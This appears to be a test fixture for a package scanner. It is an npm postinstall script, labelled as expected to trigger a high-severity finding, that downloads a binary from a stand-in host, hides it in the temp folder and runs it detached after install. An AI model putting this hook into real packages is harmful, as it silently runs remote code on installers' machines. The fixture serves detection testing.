#! path=scripts/postinstall.js flags=install expect=L2-BUND-001:HIGH max=HIGH
// Written for this test: downloads a binary and leaves it running after npm install returns.
const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
const { spawn } = require('child_process');
const dest = path.join(os.tmpdir(), '.cache-helper');
https.get('https://files.example.net/helper-linux', (res) => {
  res.pipe(fs.createWriteStream(dest)).on('finish', () => {
    fs.chmodSync(dest, 0o755);
    const p = spawn(dest, [], { detached: true, stdio: 'ignore' });
    p.unref();
  });
});
